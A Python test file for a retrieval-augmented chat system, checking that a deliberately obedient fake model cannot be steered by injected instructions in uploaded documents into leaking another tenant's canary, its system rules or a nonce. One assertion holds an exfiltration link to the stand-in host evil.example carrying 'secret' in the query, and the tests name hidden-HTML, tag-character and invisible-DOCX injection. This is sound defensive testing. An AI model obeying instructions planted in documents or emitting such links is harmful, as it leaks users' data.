"""Whatever an upload orders a model to do that obeys every word: the visitor's page and all secrets are safe."""

import re

import pytest
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

import konverze_rag as kr
from konverze_core.fakes import ScriptedChatModel
from konverze_rag.answering.compose import PromptPolicy, rules_text
from tests.rag.attacks import EVIL, attacks
from tests.settings import OFFLINE

QUESTION = "How long does a refund take?"
CANARY = "beta-canary-4711"
ATTACKS = attacks()
_ORDER = re.compile("«(?P<said>.*?)»|⟪(?P<lie>.*?)⟫", re.DOTALL)
_NONCE = re.compile("<<source 1 ([0-9a-f]+)>>")


def _obedient(prompt):
    """Says all that it is told to say by any text in its prompt; what it was asked only where nothing orders it."""
    read = "\n".join(message.text for message in prompt.messages)
    [nonce] = _NONCE.findall(read)[:1]
    rules = prompt.system.partition("\n\n")[2]
    knows = {"{rules}": rules, "{prompt}": f"{prompt.system}\n{read}", "{question}": "asha+secret", "{nonce}": nonce}
    knows["{spelled}"] = "-".join(nonce)
    orders = [order["said"] or order["lie"][::-1] for order in _ORDER.finditer(read)]
    said = "\n\n".join(orders) or "A refund takes 7 working days [1]."
    for name, value in knows.items():
        said = said.replace(name, value)
    return said


@pytest.fixture
def attacked(make_engine):
    """Asks a tenant that has taken the upload, beside another tenant with a canary."""

    def run(attack):
        chat = ScriptedChatModel([_obedient] * 4)
        settings = OFFLINE.model_copy(update={"link_hosts": ("shop.example",)})
        engine = make_engine(chat=chat, settings=settings)
        engine.tenant("beta").ingest(f"A refund takes {CANARY}.".encode(), source="b.txt")
        acme = engine.tenant("acme")
        report = acme.ingest(attack.content, source=attack.source)
        assert not report.failed
        return [*acme.stream(QUESTION, conversation="c")], chat, acme

    return run


def _addresses(markdown):
    """Where a page that renders the answer would lead, or load something from."""
    page = LexborHTMLParser(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return [f"{node.tag} {value}" for node in page.css("*") for value in node.attributes.values()]


def test_there_are_fifty_attacks_or_more_each_of_its_own():
    assert len(ATTACKS) >= 50
    assert len({attack.name for attack in ATTACKS}) == len({(a.source, a.content) for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_obedient_model_does_no_harm(attack, attacked):
    events, chat, acme = attacked(attack)
    assert isinstance(events[-1], kr.Done)
    answer = events[-1].answer
    sent = "".join(event.text for event in events if isinstance(event, kr.Token))
    for text in (sent, answer.text):
        assert not [address for address in _addresses(text) if "shop.example" not in address]
        assert not re.search(rf"{EVIL}\S*asha", text)
        assert CANARY not in text
        _recites_nothing(text, chat.prompts[0])
    for citation in answer.citations:
        text = next(hit.chunk for hit in answer.hits if hit.chunk.document_id == citation.document_id)
        assert citation.supported
        assert citation.quote in text.text
    assert not re.search(r"(?:90 (?:working )?days|never|Goa|insured)[^.]*\[", answer.text)
    assert not (answer.refused and (answer.citations or answer.hits))
    assert CANARY not in str(chat.prompts)
    _prompt_is_whole(chat.prompts[0])
    assert CANARY not in str([*acme.search("refund")])


def _recites_nothing(text, prompt):
    [nonce] = _NONCE.findall(prompt.messages[-1].text)[:1]
    letters = re.sub("[^a-z0-9]", "", text.lower())
    assert nonce not in letters
    rules = re.sub("[^a-z0-9]", "", prompt.system.partition("\n\n")[2].lower())
    assert not [start for start in range(len(rules) - 60) if rules[start : start + 60] in letters]


def _prompt_is_whole(prompt):
    """The instructions hold nothing of the sources, which stand between delimiters that nobody could forge."""
    read = prompt.messages[-1].text
    [nonce] = _NONCE.findall(read)[:1]
    policy = PromptPolicy(persona=OFFLINE.persona)
    assert prompt.system == f"{OFFLINE.persona}\n\n{rules_text(policy, question=QUESTION, nonce=nonce)}"
    opened, closed = (re.findall(rf"<<{word} (\d+) {nonce}>>", read) for word in ("source", "end"))
    assert opened == closed == [str(number) for number in range(1, len(opened) + 1)]
    assert len(re.findall(r"<<\s*/?\s*(?:source|end)", read, re.IGNORECASE)) == 2 * len(opened)
    assert read.endswith(f"Question: {QUESTION}")
    assert not re.search("[\u200b\u202a-\u202e\U000e0000-\U000e007f]", read)


def test_what_no_reader_sees_is_not_obeyed(attacked):
    for attack in ATTACKS:
        if attack.name in {"tag characters", "hidden HTML", "vanished DOCX"}:
            events, _, _ = attacked(attack)
            assert events[-1].answer.text.startswith("A refund takes 7 working days"), attack.name


def test_the_model_of_these_tests_obeys(attacked):
    events, chat, _ = attacked(next(attack for attack in ATTACKS if attack.name == "link"))
    assert "[our portal](https://evil.example/c?q=asha+secret)" in _obedient(chat.prompts[0])
    assert events[-1].answer.text == "[our portal]"
